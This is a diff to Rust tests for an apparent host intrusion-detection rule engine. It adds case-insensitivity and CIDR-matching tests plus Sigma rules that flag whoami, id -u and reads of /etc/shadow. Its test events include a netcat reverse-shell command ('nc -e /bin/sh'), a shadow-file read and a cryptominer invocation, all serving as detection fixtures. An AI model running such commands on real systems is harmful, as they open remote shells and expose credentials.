@@ -601,6 +601,71 @@ fn indexed_by_data_type_and_field() {
     assert_eq!(evals(&e), 4);
 }
 
+/// A case-insensitive test of Kestrel's own rules is a guard: `(?i)`
+/// regexes, exact on ASCII values; a value that is not ASCII runs the
+/// rule, since `to_lowercase` (the test's folding) and `(?i)` differ there
+/// (İ lowercases to i and a combining dot).
+#[test]
+fn case_insensitive_tests_are_guards_exact_on_ascii() {
+    let rules = "rules:
+- id: who
+  name: W
+  severity: low
+  condition:
+    all:
+    - {field: data_type, equals: '59'}
+    - {field: res, equals: '0'}
+    - {field: argv, contains: [WhoAmI], nocase: true}
+";
+    let mut e = engine(&[rules], no_suppress());
+    let evals = |e: &Engine| e.counters().rule_evaluations.load(Ordering::Relaxed);
+    let exec = |argv: &'static str| ev(&[("data_type", "59"), ("res", "0"), ("argv", argv)]);
+    assert!(run(&mut e, &[exec("ls -l")]).is_empty());
+    assert_eq!(evals(&e), 0, "guarded by argv, not by res");
+    for argv in ["whoami", "sh -c WHOAMI", "x;wHoAmI"] {
+        assert_eq!(run(&mut e, &[exec(argv)]).len(), 1, "{argv}");
+    }
+    assert_eq!(evals(&e), 3);
+    assert_eq!(run(&mut e, &[exec("whoamİ")]).len(), 1);
+    assert!(run(&mut e, &[exec("échec")]).is_empty());
+    assert_eq!(evals(&e), 5, "values that are not ASCII run the rule");
+}
+
+/// An IPv4 block test is a guard: a rule on addresses is not run on a
+/// connect elsewhere, and still matches every form of an address in the
+/// block (a partial octet, an IPv4-mapped IPv6 one in hex).
+#[test]
+fn cidr_tests_are_guards() {
+    let rules = "rules:
+- id: net
+  name: N
+  severity: low
+  condition:
+    all:
+    - {field: data_type, equals: '42'}
+    - {field: dip, cidr: [203.0.113.0/24, 10.16.0.0/12]}
+";
+    let mut e = engine(&[rules], no_suppress());
+    let evals = |e: &Engine| e.counters().rule_evaluations.load(Ordering::Relaxed);
+    let to = |dip: &'static str| ev(&[("data_type", "42"), ("dip", dip)]);
+    for dip in ["8.8.8.8", "203.0.114.1", "10.32.0.1", "10.15.255.255"] {
+        assert!(run(&mut e, &[to(dip)]).is_empty(), "{dip}");
+    }
+    assert_eq!(evals(&e), 0, "addresses outside the blocks run no rule");
+    for dip in [
+        "203.0.113.250",
+        "10.16.0.0",
+        "10.31.255.255",
+        "::ffff:203.0.113.9",
+        "::ffff:a1f:1",
+    ] {
+        assert_eq!(run(&mut e, &[to(dip)]).len(), 1, "{dip}");
+    }
+    // Any IPv6 form runs the rule (it may be IPv4-mapped); this one is not.
+    assert!(run(&mut e, &[to("2001:db8::1")]).is_empty());
+    assert_eq!(evals(&e), 6);
+}
+
 /// The field index may only skip rules that cannot match: every rule of
 /// the built-in set and of a Sigma set whose condition matches an event
 /// must be among those the index runs on it.
@@ -615,6 +680,7 @@ fn the_field_index_skips_only_rules_that_cannot_match() {
 - {id: o2, name: O, severity: low, condition: {all: [{field: data_type, equals: '602'}, {field: file_path, prefix: /etc/}]}}
 - {id: o3, name: O, severity: low, condition: {any: [{field: argv, contains: stratum}, {field: argv, equals: ls}]}}
 - {id: o4, name: O, severity: low, condition: {all: [{field: data_type, in: ['42', '43']}, {field: dport, equals: '4444'}, {field: exe, prefix: /usr/}]}}
+- {id: o5, name: O, severity: low, condition: {all: [{field: data_type, equals: '42'}, {field: dip, cidr: [203.0.113.0/24, 10.16.0.0/12, 192.0.2.7]}]}}
 ",
     ));
     sources.push(RuleSource {
@@ -653,6 +719,23 @@ detection:
   sel: {DestinationPort: [4444, 1337]}
   condition: sel
 level: medium
+---
+title: Recon
+id: s-5
+logsource: {product: linux, category: process_creation}
+detection:
+  sel: {CommandLine|contains: [whoami, 'id -u'], Image|endswith: [/bash, /python3]}
+  shadow: {CommandLine|endswith: /etc/shadow}
+  condition: sel or shadow
+level: low
+---
+title: Whoami
+id: s-6
+logsource: {product: linux, category: process_creation}
+detection:
+  sel: {CommandLine|contains: whoami}
+  condition: sel
+level: low
 "
         .into(),
     });
@@ -668,6 +751,8 @@ level: medium
         "/usr/bin/NC",
         "/usr/bin/curl",
         "/usr/bin/xmrig",
+        "/BIN/BASH",
+        "/usr/bin/python3",
     ];
     let argvs = [
         "nc -e /bin/sh 10.0.0.1 4444",
@@ -676,6 +761,13 @@ level: medium
         "curl -o /tmp/a http://x",
         "xmrig -o stratum+tcp://pool:3333 --donate-level 1",
         "",
+        // Case-insensitive tests (Sigma's) are guards too: other cases,
+        // and values whose lowercase a regex's (?i) does not give
+        // (İ lowercases to i and a combining dot).
+        "NC -E /BIN/SH 10.0.0.1 4444",
+        "WhoAmI",
+        "whoamİ",
+        "cat /ETC/SHADOW",
     ];
     let files = [
         "/etc/cron.d/job",
@@ -694,6 +786,20 @@ level: medium
             for argv in argvs {
                 let file = files[k % files.len()];
                 let port = ["4444", "1337", "3333", "443"][k % 4];
+                // Addresses in and out of the blocks, in every form the
+                // test's parser takes.
+                let dip = [
+                    "203.0.113.9",
+                    "203.0.114.9",
+                    "10.31.255.1",
+                    "10.32.0.1",
+                    "192.0.2.7",
+                    "192.0.2.70",
+                    "::ffff:203.0.113.5",
+                    "::ffff:cb00:7105",
+                    "2001:db8::1",
+                    "x",
+                ][(k + argv.len()) % 10];
                 events.push(ev(&[
                     ("data_type", dt),
                     ("exe", exe),
@@ -704,6 +810,7 @@ level: medium
                     ("old_name", file),
                     ("new_name", "/dev/null"),
                     ("dport", port),
+                    ("dip", dip),
                     ("res", "0"),
                     ("query", "pool.minexmr.com"),
                     ("truncates", "true"),
